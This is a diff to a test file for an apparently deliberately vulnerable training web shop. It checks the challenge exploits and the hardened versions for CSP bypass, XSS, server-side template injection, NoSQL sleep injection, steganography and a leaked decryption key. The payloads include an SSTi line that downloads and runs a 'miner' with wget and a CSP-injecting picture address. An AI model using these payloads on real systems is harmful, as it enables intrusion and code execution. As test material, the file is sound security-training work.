@@ -1,6 +1,7 @@
 import { ACCOUNTANT, ADMIN, DEMO, startTestShop, type TestShop } from '../helpers';
 import { registerCustomer } from '../account-helpers';
 import { decodePng } from '../../src/features/memories/png';
+import { escapeHtml } from '../../src/http/html-page';
 import { expectNotSolved, expectSolved, exploit, isFixedIn } from '../challenges';
 
 /**
@@ -51,16 +52,23 @@ describe('Retrieve Blueprint (product pictures)', () => {
   });
 
   it('exploit: the print file beside the pictures downloads and solves it', async () => {
-    const response = await get('/assets/public/images/products/orange-slice-keyring-v4-final.stl');
-    expect(response.statusCode).toBe(200);
-    expect(response.headers['content-type']).toMatch(/model\/stl/);
-    expect(response.body).toMatch(/^solid pulp_orange_slice_keyring_v4\n/);
-    expect(response.body.trimEnd()).toMatch(/endsolid pulp_orange_slice_keyring_v4$/);
-    // A closed solid: every facet has a normal and three vertices.
-    const facets = response.body.match(/facet normal/g)?.length ?? 0;
-    expect(facets).toBeGreaterThan(100);
-    expect(response.body.match(/vertex /g)?.length).toBe(facets * 3);
-    await expectSolved(shop, 'retrieveBlueprintChallenge');
+    const url = '/assets/public/images/products/orange-slice-keyring-v4-final.stl';
+    await exploit(shop, 'retrieveBlueprintChallenge', async () => {
+      const response = await get(url);
+      expect(response.statusCode).toBe(200);
+      expect(response.headers['content-type']).toMatch(/model\/stl/);
+      expect(response.body).toMatch(/^solid pulp_orange_slice_keyring_v4\n/);
+      expect(response.body.trimEnd()).toMatch(/endsolid pulp_orange_slice_keyring_v4$/);
+      // A closed solid: every facet has a normal and three vertices.
+      const facets = response.body.match(/facet normal/g)?.length ?? 0;
+      expect(facets).toBeGreaterThan(100);
+      expect(response.body.match(/vertex /g)?.length).toBe(facets * 3);
+    });
+    if (isFixedIn(shop, 'retrieveBlueprintChallenge')) {
+      // Hardened: the pictures folder has no print file; the pictures themselves are still there.
+      expect((await get(url)).statusCode).toBe(404);
+      expect((await get('/assets/public/images/products/orange-slice-keyring.svg')).statusCode).toBe(200);
+    }
   });
 });
 
@@ -92,10 +100,16 @@ describe('Product Tampering (catalogue sync)', () => {
     const session = await shop.login(customer.email, customer.password);
     const before = (await get(`/api/Products/${id}`)).json().data.description as string;
     const tampered = before.replace('https://owasp.org/www-project-top-ten/', 'https://pulp-giveaways.example/free-juice');
-    const response = await patch(id, tampered, session.headers);
-    expect(response.statusCode).toBe(200);
-    expect((await get(`/api/Products/${id}`)).json().data.description).toContain('href="https://pulp-giveaways.example/free-juice"');
-    await expectSolved(shop, 'changeProductChallenge');
+    await exploit(shop, 'changeProductChallenge', async () => {
+      const response = await patch(id, tampered, session.headers);
+      expect(response.statusCode).toBe(200);
+      expect((await get(`/api/Products/${id}`)).json().data.description).toContain('href="https://pulp-giveaways.example/free-juice"');
+    });
+    if (isFixedIn(shop, 'changeProductChallenge')) {
+      // Hardened: the sync takes staff only; the customer's PATCH was refused and the link is unchanged.
+      expect((await patch(id, tampered, session.headers)).statusCode).toBe(403);
+      expect((await get(`/api/Products/${id}`)).json().data.description).toBe(before);
+    }
   });
 });
 
@@ -152,12 +166,16 @@ describe('CSP Bypass (legacy profile page)', () => {
     expect(shownUsername(page.body)).toBe('Kim');
     expect(page.body).toContain('src="https://pictures.example/kim.png"');
     const policy = String(page.headers['content-security-policy']);
-    expect(policy).toMatch(/^img-src 'self' data: blob: https:\/\/pictures\.example\/kim\.png; default-src 'self'; script-src 'self';/);
-    // The filter takes a plain script tag out; the joined one gets through but the policy stops it.
+    // Hardened, the policy names the picture's site, not the address as typed.
+    const source = isFixedIn(shop, 'usernameXssChallenge') ? 'https:\\/\\/pictures\\.example' : 'https:\\/\\/pictures\\.example\\/kim\\.png';
+    expect(policy).toMatch(new RegExp(`^img-src 'self' data: blob: ${source}; default-src 'self'; script-src 'self';`));
+    // The filter takes a plain script tag out; the joined one gets through but the policy stops it
+    // (hardened, the filter takes it out too; where SSTi is fixed, whatever is left shows as text).
     await profile.save('<script>alert(`xss`)</script>Kim');
     expect(shownUsername((await profile.page()).body)).toBe('alert(`xss`)Kim');
     await profile.save(BYPASS);
-    expect(shownUsername((await profile.page()).body)).toBe('<script>alert(`xss`)</script>');
+    const joined = isFixedIn(shop, 'usernameXssChallenge') ? 'alert(`xss`)' : isFixedIn(shop, 'sstiChallenge') ? '&#60;script&#62;alert(`xss`)&#60;/script&#62;' : '<script>alert(`xss`)</script>';
+    expect(shownUsername((await profile.page()).body)).toBe(joined);
     // A picture address must be http(s).
     const refused = await profile.save('Kim', 'javascript:alert(1)');
     expect(refused.statusCode).toBe(400);
@@ -165,17 +183,25 @@ describe('CSP Bypass (legacy profile page)', () => {
     // A form sent from another site is refused.
     const foreign = await shop.app.inject({ method: 'POST', url: '/profile', headers: { cookie: profile.cookie, origin: 'http://evil.example', 'content-type': 'application/x-www-form-urlencoded' }, payload: 'username=Mallory' });
     expect(foreign.statusCode).toBe(403);
-    expect(shownUsername((await profile.page()).body)).toBe('<script>alert(`xss`)</script>');
+    expect(shownUsername((await profile.page()).body)).toBe(joined);
     await expectNotSolved(shop, 'usernameXssChallenge');
   });
 
   it('exploit: a picture address that adds a script-src with unsafe-inline, and the joined script tag, solve it', async () => {
     const profile = await profileSession();
-    expect((await profile.save(BYPASS, "https://pictures.example/kim.png; script-src 'unsafe-inline'")).statusCode).toBe(200);
-    const page = await profile.page();
-    expect(String(page.headers['content-security-policy'])).toMatch(/^img-src [^;]*; script-src 'unsafe-inline'; default-src 'self'; script-src 'self';/);
-    expect(shownUsername(page.body)).toBe('<script>alert(`xss`)</script>');
-    await expectSolved(shop, 'usernameXssChallenge');
+    await exploit(shop, 'usernameXssChallenge', async () => {
+      expect((await profile.save(BYPASS, "https://pictures.example/kim.png; script-src 'unsafe-inline'")).statusCode).toBe(200);
+      const page = await profile.page();
+      expect(String(page.headers['content-security-policy'])).toMatch(/^img-src [^;]*; script-src 'unsafe-inline'; default-src 'self'; script-src 'self';/);
+      expect(shownUsername(page.body)).toBe('<script>alert(`xss`)</script>');
+    });
+    if (isFixedIn(shop, 'usernameXssChallenge')) {
+      // Hardened: the page is saved, but its policy allows the picture's site only, and no script tag is left.
+      const page = await profile.page();
+      expect(String(page.headers['content-security-policy'])).toMatch(/^img-src 'self' data: blob: https:\/\/pictures\.example; default-src 'self'; script-src 'self';/);
+      expect(page.body).toContain('src="https://pictures.example/kim.png; script-src &#39;unsafe-inline&#39;"');
+      expect(shownUsername(page.body)).not.toContain('<script');
+    }
   });
 });
 
@@ -187,10 +213,12 @@ describe('SSTi (legacy profile page, danger zone)', () => {
     const profile = await profileSession();
     await profile.save('Jade Orchard');
     expect(shownUsername((await profile.page()).body)).toBe('Jade Orchard');
+    // Hardened, the username is the template's data, shown as typed: nothing in it is evaluated.
+    const fixed = isFixedIn(shop, 'sstiChallenge');
     await profile.save('Jade #{6 * 7}');
-    expect(shownUsername((await profile.page()).body)).toBe('Jade 42');
+    expect(shownUsername((await profile.page()).body)).toBe(fixed ? 'Jade #{6 * 7}' : 'Jade 42');
     await profile.save('#{process.version} #{typeof require}');
-    expect(shownUsername((await profile.page()).body)).toBe('v14.21.3 function');
+    expect(shownUsername((await profile.page()).body)).toBe(fixed ? '#{process.version} #{typeof require}' : 'v14.21.3 function');
     for (const username of [
       exec('ls -la'),
       exec(`wget -O miner ${MALWARE}`),
@@ -203,7 +231,7 @@ describe('SSTi (legacy profile page, danger zone)', () => {
       await profile.save(username);
       expect((await profile.page()).statusCode).toBe(200);
     }
-    expect(shownUsername((await profile.page()).body)).toMatch(/^Your username could not be shown: /);
+    expect(shownUsername((await profile.page()).body)).toMatch(fixed ? /^#\{\(\(\) =&#62; 1\)\(\)\}$/ : /^Your username could not be shown: /);
     await expectNotSolved(shop, 'sstiChallenge');
   });
 
@@ -214,10 +242,14 @@ describe('SSTi (legacy profile page, danger zone)', () => {
     expect(sample.statusCode).toBe(200);
     expect(sample.body).toMatch(/^#!\/bin\/sh/);
     const profile = await profileSession();
-    await profile.save(exec(`wget -O miner ${MALWARE} && chmod +x miner && ./miner`));
-    const page = await profile.page();
-    expect(shownUsername(page.body)).toBe('[object Object]');
-    await expectSolved(shop, 'sstiChallenge');
+    const payload = exec(`wget -O miner ${MALWARE} && chmod +x miner && ./miner`);
+    await exploit(shop, 'sstiChallenge', async () => {
+      await profile.save(payload);
+      const page = await profile.page();
+      expect(shownUsername(page.body)).toBe('[object Object]');
+    });
+    // Hardened: the payload is the username, shown as the characters typed.
+    if (isFixedIn(shop, 'sstiChallenge')) expect(shownUsername((await profile.page()).body)).toBe(escapeHtml(payload));
     for (const spy of spies) expect(spy).not.toHaveBeenCalled();
   });
 });
@@ -235,26 +267,39 @@ describe('NoSQL DoS (reviews $where, danger zone)', () => {
       const refused = await reviewsOf(id);
       expect(refused.statusCode).toBe(400);
     }
-    expect((await reviewsOf('abc')).json().error).toContain('abc is not defined');
-    const started = Date.now();
-    expect((await reviewsOf('1 && sleep(10)')).statusCode).toBe(200);
-    expect(Date.now() - started).toBeLessThan(1000);
+    if (isFixedIn(shop, 'noSqlCommandChallenge')) {
+      // Hardened: the id is a number or refused, and nothing of it reaches a condition.
+      expect((await reviewsOf('abc')).json().error).toBe('The product id must be a whole number.');
+      expect((await reviewsOf('1 && sleep(10)')).statusCode).toBe(400);
+    } else {
+      expect((await reviewsOf('abc')).json().error).toContain('abc is not defined');
+      const started = Date.now();
+      expect((await reviewsOf('1 && sleep(10)')).statusCode).toBe(200);
+      expect(Date.now() - started).toBeLessThan(1000);
+    }
     await expectNotSolved(shop, 'noSqlCommandChallenge');
   });
 
   it('exploit: sleep() in the condition makes the query wait (capped at two seconds, others served meanwhile) and solves it', async () => {
     const started = Date.now();
-    const sleeping = reviewsOf('1 || sleep(60000)');
-    // Another customer is answered while the query sleeps: the event loop is free.
-    const meanwhile = Date.now();
-    expect((await get('/rest/products/search?q=mango')).statusCode).toBe(200);
-    expect(Date.now() - meanwhile).toBeLessThan(500);
-    const response = await sleeping;
-    const took = Date.now() - started;
-    expect(response.statusCode).toBe(200);
-    expect(took).toBeGreaterThanOrEqual(1900);
-    expect(took).toBeLessThan(4000);
-    await expectSolved(shop, 'noSqlCommandChallenge');
+    await exploit(shop, 'noSqlCommandChallenge', async () => {
+      const sleeping = reviewsOf('1 || sleep(60000)');
+      // Another customer is answered while the query sleeps: the event loop is free.
+      const meanwhile = Date.now();
+      expect((await get('/rest/products/search?q=mango')).statusCode).toBe(200);
+      expect(Date.now() - meanwhile).toBeLessThan(500);
+      const response = await sleeping;
+      const took = Date.now() - started;
+      expect(response.statusCode).toBe(200);
+      expect(took).toBeGreaterThanOrEqual(1900);
+      expect(took).toBeLessThan(4000);
+    });
+    if (isFixedIn(shop, 'noSqlCommandChallenge')) {
+      // Hardened: refused at once, without waiting, and the product's own reviews still list.
+      expect(Date.now() - started).toBeLessThan(1000);
+      expect((await reviewsOf('1 || sleep(60000)')).statusCode).toBe(400);
+      expect((await reviewsOf('1')).json().data.length).toBeGreaterThan(0);
+    }
   });
 });
 
@@ -325,16 +370,25 @@ describe('Steganography (photo wall)', () => {
   });
 
   it('exploit: the lowest bits draw the fly and its name; naming it in feedback solves it', async () => {
+    await exploit(shop, 'hiddenImageChallenge', async () => {
+      const png = decodePng((await picture()).rawPayload);
+      const bit = (x: number, y: number) => png.rgb[(y * png.width + x) * 3 + 2] & 1;
+      const plane = Array.from({ length: png.height }, (_, y) => Array.from({ length: png.width }, (_, x) => bit(x, y)));
+      // The blue values' lowest bits form a drawing, not noise: most rows are empty.
+      expect(plane.flat().filter(Boolean).length).toBeGreaterThan(3000);
+      expect(plane.filter((row) => row.every((value) => value === 0)).length).toBeGreaterThan(200);
+      // The name is written in a 5×7 font, 4 pixels a dot, from (250, 150): the C's first row is .1111
+      expect([0, 1, 2, 3, 4].map((column) => bit(250 + column * 4 + 1, 150 + 1))).toEqual([0, 1, 1, 1, 1]);
+      expect((await feedback('Count Drosophila was hiding in your spring-cleaning picture! (anonymous)')).statusCode).toBe(201);
+    });
+  });
+
+  it('hardened: the picture the shop serves has nothing in its lowest bits, and still shows the same scene', async () => {
     const png = decodePng((await picture()).rawPayload);
-    const bit = (x: number, y: number) => png.rgb[(y * png.width + x) * 3 + 2] & 1;
-    const plane = Array.from({ length: png.height }, (_, y) => Array.from({ length: png.width }, (_, x) => bit(x, y)));
-    // The blue values' lowest bits form a drawing, not noise: most rows are empty.
-    expect(plane.flat().filter(Boolean).length).toBeGreaterThan(3000);
-    expect(plane.filter((row) => row.every((value) => value === 0)).length).toBeGreaterThan(200);
-    // The name is written in a 5×7 font, 4 pixels a dot, from (250, 150): the C's first row is .1111
-    expect([0, 1, 2, 3, 4].map((column) => bit(250 + column * 4 + 1, 150 + 1))).toEqual([0, 1, 1, 1, 1]);
-    expect((await feedback('Count Drosophila was hiding in your spring-cleaning picture! (anonymous)')).statusCode).toBe(201);
-    await expectSolved(shop, 'hiddenImageChallenge');
+    const lowestBits = Array.from({ length: png.width * png.height }, (_, index) => png.rgb[index * 3 + 2] & 1).filter(Boolean).length;
+    if (isFixedIn(shop, 'hiddenImageChallenge')) expect(lowestBits).toBe(0);
+    else expect(lowestBits).toBeGreaterThan(3000);
+    expect([png.rgb[0], png.rgb[1], png.rgb[2] >> 1]).toEqual([253, 230, 138 >> 1]);
   });
 });
 
@@ -345,22 +399,31 @@ describe('Premium Paywall (score board text)', () => {
     expect(await description()).toMatch(/`[A-Za-z0-9+/]{40,}={0,2}`/);
     const listing = await get('/encryptionkeys');
     expect(listing.body).toContain('href="/encryptionkeys/jwt.pub"');
+    expect((await get('/encryptionkeys/jwt.pub')).body).toContain('BEGIN PUBLIC KEY');
+    // Hardened, the secret key is neither listed nor served.
+    if (isFixedIn(shop, 'premiumPaywallChallenge')) {
+      expect(listing.body).not.toContain('premium.key');
+      expect((await get('/encryptionkeys/premium.key')).statusCode).toBe(404);
+    }
     expect((await get('/premium')).statusCode).toBe(404);
     await expectNotSolved(shop, 'premiumPaywallChallenge');
   });
 
   it('exploit: the key beside the public key decrypts the description into the premium address, which solves it', async () => {
     const { createDecipheriv } = await import('node:crypto');
-    const listing = await get('/encryptionkeys');
-    const keyFile = /href="(\/encryptionkeys\/premium\.key)"/.exec(listing.body)![1];
-    const [key, iv] = (await get(keyFile)).body.trim().split('\n');
-    const ciphertext = /`([A-Za-z0-9+/]+={0,2})`/.exec(await description())![1];
-    const decipher = createDecipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.from(iv, 'hex'));
-    const address = Buffer.concat([decipher.update(Buffer.from(ciphertext, 'base64')), decipher.final()]).toString('utf8');
-    expect(address).toMatch(/^\/premium\//);
-    const premium = await get(address);
-    expect(premium.statusCode).toBe(200);
-    expect(premium.headers['content-type']).toMatch(/image\/svg\+xml/);
-    await expectSolved(shop, 'premiumPaywallChallenge');
+    await exploit(shop, 'premiumPaywallChallenge', async () => {
+      const listing = await get('/encryptionkeys');
+      const keyFile = /href="(\/encryptionkeys\/premium\.key)"/.exec(listing.body)?.[1] ?? '/encryptionkeys/premium.key';
+      const keys = await get(keyFile);
+      expect(keys.statusCode).toBe(200);
+      const [key, iv] = keys.body.trim().split('\n');
+      const ciphertext = /`([A-Za-z0-9+/]+={0,2})`/.exec(await description())![1];
+      const decipher = createDecipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.from(iv, 'hex'));
+      const address = Buffer.concat([decipher.update(Buffer.from(ciphertext, 'base64')), decipher.final()]).toString('utf8');
+      expect(address).toMatch(/^\/premium\//);
+      const premium = await get(address);
+      expect(premium.statusCode).toBe(200);
+      expect(premium.headers['content-type']).toMatch(/image\/svg\+xml/);
+    });
   });
 });
